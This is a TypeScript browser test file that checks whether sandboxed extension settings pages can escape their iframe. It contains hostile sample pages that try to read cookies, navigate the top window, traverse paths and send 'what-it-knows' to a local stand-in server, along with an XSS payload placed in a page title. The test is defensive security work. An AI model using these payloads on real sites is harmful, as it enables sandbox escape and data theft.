import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

import {
  Access,
  type EmbeddedPageProvider,
  Extension,
  InWorkspace,
  SettingsPage,
} from '@gatehouse/extension';
import { type TestGatehouse, createClient, startGatehouse } from '@gatehouse/testing';
import { Controller, Get, Module, Post } from '@nestjs/common';
import type { FrameLocator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { describeWalk } from '../support/browser.js';

/** Another site, which remembers what reaches it. */
class Elsewhere {
  readonly requests: string[] = [];
  page = '';
  private server!: Server;

  async start(): Promise<string> {
    this.server = createServer((request, response) => {
      this.requests.push(request.url!);
      response.setHeader('content-type', 'text/html').setHeader('access-control-allow-origin', '*');
      response.end(request.url === '/framing' ? this.page : 'elsewhere');
    });
    await new Promise<void>((listening) => this.server.listen(0, '127.0.0.1', listening));
    return `http://localhost:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}

const elsewhere = new Elsewhere();
const address = await elsewhere.start();

/** What a page whose code is somebody else's would try; each attempt writes down how it ended. */
const ATTEMPTS = `
  const results = {};
  const attempt = async (name, act) => {
    try { results[name] = String(await act()); } catch (error) { results[name] = 'refused: ' + error.name; }
  };
  const ask = (method, path) =>
    gatehouse.request(method, path).then(({ status }) => 'status ' + status, ({ message }) => message);
  (async () => {
    await attempt('origin', () => self.origin);
    await attempt('cookie', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('parent document', () => parent.document.title);
    await attempt('parent address', () => parent.location.href);
    await attempt('top navigation', () => { top.location = '${address}/top'; });
    await attempt('new window', () => open('${address}/window'));
    await attempt('own service', () => fetch(new URL('/v1/workspace/members', document.baseURI)));
    await attempt('elsewhere', () => fetch('${address}/fetch'));
    await attempt('declared', () => ask('GET', '/v1/acme/mine'));
    await attempt('undeclared', () => ask('GET', '/v1/workspace/members'));
    await attempt('undeclared, own', () => ask('POST', '/v1/acme/mine'));
    await attempt('climbing', () => ask('GET', '/v1/acme/../workspace/members'));
    await attempt('encoded', () => ask('GET', '/v1/acme/%2e%2e/workspace/members'));
    await attempt('another host', () => ask('GET', '${address}/relay'));
    const image = new Image();
    image.src = '${address}/image';
    await new Promise((soon) => setTimeout(soon, 300));
    document.body.append(Object.assign(document.createElement('pre'), { id: 'results', textContent: JSON.stringify(results) }));
  })();`;

const TITLE = '</title><img src=x onerror="top.hit=1">';

@SettingsPage('acme')
class Hostile implements EmbeddedPageProvider {
  readonly title = TITLE;
  readonly routes = ['GET /v1/acme/mine'];
  readonly html = `<p>Hostile</p><script>${ATTEMPTS}</script>`;
}

@SettingsPage('acme.leaving')
class Leaving implements EmbeddedPageProvider {
  readonly title = 'Leaving';
  readonly routes = [];
  readonly html = `<script>setTimeout(() => { location = '${address}/leaving?what-it-knows'; }, 300)</script>`;
}

@SettingsPage('acme.sending')
class Sending implements EmbeddedPageProvider {
  readonly title = 'Sending';
  readonly routes = [];
  readonly html = `<form action="${address}/form"><input name="what" value="it-knows"></form>
    <script>setTimeout(() => document.forms[0].submit(), 300)</script>`;
}

@Controller('v1/acme')
class AcmeController {
  static posts = 0;

  @Get('mine')
  @Access({ role: 'member' })
  mine(@InWorkspace() { person }: { person: { name: string } }): { name: string } {
    return { name: person.name };
  }

  @Post('mine')
  @Access({ role: 'member' })
  post(): object {
    AcmeController.posts += 1;
    return {};
  }
}

@Extension({ name: 'acme' })
@Module({ controllers: [AcmeController], providers: [Hostile, Leaving, Sending] })
class AcmeModule {}

describe('an embedded page', () => {
  let gatehouse: TestGatehouse;

  beforeAll(async () => {
    gatehouse = await startGatehouse({ extensions: [AcmeModule] });
  });

  afterAll(async () => {
    await gatehouse?.stop();
    elsewhere.stop();
  });

  it('is for who is signed in, and has no origin however it is opened', async () => {
    const { baseUrl, workspace } = gatehouse;
    expect((await createClient({ baseUrl }).get('/v1/settings-pages/acme')).status).toBe(401);
    const app = createClient({ baseUrl, cookie: workspace.owner.cookie });
    const { status, headers } = await app.get('/v1/settings-pages/acme');
    expect(status).toBe(200);
    const policy = headers.get('content-security-policy')!.split('; ');
    expect(policy).toContain('sandbox allow-scripts allow-forms');
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).toContain("default-src 'none'");
    for (const name of ['nobody', 'acme%2F..', '__proto__']) {
      expect((await app.get(`/v1/settings-pages/${name}`)).status).toBe(404);
    }
  });

  describeWalk('in a browser', (browser) => {
    let page: Page;
    let frame: FrameLocator;

    beforeAll(async () => {
      const { baseUrl, workspace } = gatehouse;
      page = await browser.page(baseUrl, workspace.owner);
      await page.goto(`/w/${workspace.slug}/-/settings/extensions/acme`);
      frame = page.frameLocator('iframe');
    });

    it('reaches what it declares, and nothing else', async () => {
      const results = JSON.parse((await frame.locator('#results').textContent())!) as Record<string, string>;
      const undeclared = 'The page does not declare this route.';
      expect(results).toEqual({
        origin: 'null',
        cookie: 'refused: SecurityError',
        storage: 'refused: SecurityError',
        'parent document': 'refused: SecurityError',
        'parent address': 'refused: SecurityError',
        'top navigation': 'refused: SecurityError',
        'new window': 'null',
        'own service': 'refused: TypeError',
        elsewhere: 'refused: TypeError',
        declared: 'status 200',
        undeclared,
        'undeclared, own': undeclared,
        climbing: undeclared,
        encoded: undeclared,
        'another host': undeclared,
      });
      expect(AcmeController.posts).toBe(0);
      expect(elsewhere.requests).toEqual([]);
      expect(new URL(page.url()).pathname).toContain('/settings/extensions/acme');
      browser.complaints.length = 0;
    });

    it('cannot get out by its title', async () => {
      await page.getByRole('heading', { level: 1 }).getByText(TITLE).waitFor();
      expect(await page.evaluate('globalThis.hit')).toBeUndefined();
      expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
    });

    it.each(['leaving', 'sending'])('cannot go on to another site with what it knows, by %s', async (way) => {
      const { workspace } = gatehouse;
      await page.goto(`/w/${workspace.slug}/-/settings/extensions/acme.${way}`);
      await expect.poll(() => browser.complaints.join()).toMatch(/frame-src|form-action/);
      expect(elsewhere.requests).toEqual([]);
      browser.complaints.length = 0;
    });

    it('is as harmless where it is opened by itself', async () => {
      const alone = await page.context().newPage();
      // One that stays: its policy lets no form be sent.
      await alone.goto('/v1/settings-pages/acme.sending');
      expect(await alone.evaluate('[self.origin, typeof gatehouse.request]')).toEqual(['null', 'function']);
      await alone.close();
      browser.complaints.length = 0;
    });

    it('is shown in no frame of another origin, though it be of the same site', async () => {
      elsewhere.page = `<iframe src="${gatehouse.baseUrl}/v1/settings-pages/acme.leaving"></iframe>`;
      const stranger = await page.context().newPage();
      const refused: string[] = [];
      stranger.on('console', (message) => refused.push(message.text()));
      await stranger.goto(`${address.replace('localhost', '127.0.0.1')}/framing`);
      await expect.poll(() => refused.join()).toContain("frame-ancestors 'self'");
      await stranger.close();
    });

    it('gets nothing by messages that are not its own', async () => {
      const { workspace } = gatehouse;
      await page.goto(`/w/${workspace.slug}/-/settings/extensions/acme`);
      await page.frameLocator('iframe').locator('#results').waitFor();
      const told = await page.evaluate(`new Promise((done) => {
        addEventListener('message', ({ data }) => { if (data && data.id === 99 && !data.gatehouse) done(data); });
        postMessage({ gatehouse: 1, type: 'request', id: 99, method: 'GET', path: '/v1/acme/mine' }, '*');
        setTimeout(() => done('nothing'), 500);
      })`);
      expect(told).toBe('nothing');
      browser.complaints.length = 0;
    });
  });
});
